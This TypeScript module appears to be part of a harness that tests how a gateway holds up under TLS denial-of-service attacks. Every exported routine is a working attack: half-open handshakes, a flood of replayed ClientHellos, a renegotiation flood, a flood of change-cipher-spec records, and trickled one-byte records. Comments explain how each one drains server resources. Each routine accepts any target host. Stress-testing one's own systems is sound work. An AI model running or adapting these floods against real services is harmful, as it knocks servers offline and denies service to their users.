import { once } from "node:events";
import { Duplex } from "node:stream";
import { connect } from "node:tls";
import { type Attacks, dial, dialSecure, held, pour, type Target } from "./hostile.ts";

const CRLF = "\r\n";
/** A record that says that what follows is encrypted, and changes nothing (RFC 8446 §5). */
const CHANGE_CIPHER_SPEC = Buffer.of(20, 3, 3, 0, 1, 1);

/** The first bytes of a real client, and nothing after them. */
export function helloFor(servername: string): Promise<Buffer> {
  return new Promise((resolve) => {
    const wire = new Duplex({
      read() {},
      write(bytes: Buffer, _encoding, done) {
        resolve(bytes);
        done();
      },
    });
    connect({ socket: wire, servername }).on("error", () => {});
  });
}

export const TLS_ATTACKS: Attacks = {
  "half-open handshakes": {
    crowd: "HTTPS",
    async run(target, signal) {
      const hello = await helloFor(target.host);
      const socket = dial(target.securePort).resume();
      socket.write(hello);
      await held(socket, signal);
    },
  },
  // A hello costs its client nothing, and the gateway a key and a signature.
  "handshake flood": { crowd: "HTTPS", run: helloFlood },
  "renegotiation flood": {
    crowd: "HTTPS",
    run(target, signal) {
      // TLS 1.3 has none (RFC 8446 §4.1.2).
      const socket = dialSecure(target, { maxVersion: "TLSv1.2" }).resume();
      const again = (error: Error | null = null): void => {
        if (error === null && !socket.destroyed) socket.renegotiate({}, again);
      };
      socket.once("secureConnect", () => again());
      return held(socket, signal);
    },
  },
  "records that change nothing": {
    crowd: "HTTPS",
    async run(target, signal) {
      const hello = await helloFor(target.host);
      const socket = dial(target.securePort).resume();
      socket.write(hello);
      const many = Buffer.concat(Array.from({ length: 1_000 }, () => CHANGE_CIPHER_SPEC));
      pour(socket, () => many);
      await held(socket, signal);
    },
  },
  "records of one byte": {
    crowd: "HTTPS",
    run(target, signal) {
      const socket = dialSecure(target).resume();
      socket.once("secureConnect", () => {
        socket.write(`GET / HTTP/1.1${CRLF}Host: ${target.host}${CRLF}X-Flood: `);
        // Each write is a record of its own, with a head and a tag to check.
        pour(socket, () => Buffer.of(97));
      });
      return held(socket, signal);
    },
  },
};

/** One after the other: each is dropped as soon as the gateway has answered it. */
async function helloFlood(target: Target, signal: AbortSignal): Promise<void> {
  const hello = await helloFor(target.host);
  while (!signal.aborted) {
    const socket = dial(target.securePort);
    socket.once("data", () => socket.destroy());
    socket.write(hello);
    await held(socket, signal);
  }
}

/** Resolves when the handshake is done, or never will be. */
export const shaken = (socket: ReturnType<typeof dialSecure>): Promise<unknown> =>
  Promise.race([once(socket, "secureConnect"), once(socket, "close")]).catch(() => {});
